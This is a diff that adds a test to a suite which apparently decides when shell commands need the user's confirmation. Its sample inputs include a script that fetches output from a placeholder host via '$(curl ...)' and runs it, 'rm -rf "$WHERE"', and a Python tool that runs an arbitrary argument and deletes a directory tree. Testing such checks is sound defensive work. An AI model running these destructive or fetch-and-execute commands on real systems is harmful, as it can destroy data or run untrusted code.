@@ -381,6 +381,17 @@ describe('tasks: script files', () => {
     ['bash dir', { 'dir/x': 'rm a' }],
   ]);
 
+  it('asks less of what lies on disk than of what the request writes', () => {
+    const tool = 'import shutil, subprocess, sys\nsubprocess.run(sys.argv[1])\nshutil.rmtree(sys.argv[2])\n';
+    assert.deepEqual(questions('python tool.py', { 'tool.py': tool }), []);
+    assert.notDeepEqual(questions(`cat > tool.py <<'EOF'\n${tool}EOF\npython tool.py`, {}), []);
+    assert.deepEqual(questions('bash x.sh', { 'x.sh': '"$PYTHON" -m x' }), []);
+    assert.notDeepEqual(questions(`echo '"$PYTHON" -m x' > x.sh; bash x.sh`, {}), []);
+    assert.notDeepEqual(questions('bash x.sh', { 'x.sh': '$(curl https://x.example) a' }), []);
+    assert.notDeepEqual(questions('bash x.sh', { 'x.sh': 'rm -rf "$WHERE"' }), []);
+    assert.notDeepEqual(questions('node -r "$x" x.js', { 'x.js': '1' }), []);
+  });
+
   for (const text of [
     'bash x.sh; bash x.sh',
     'exec "$0" y "$@"',
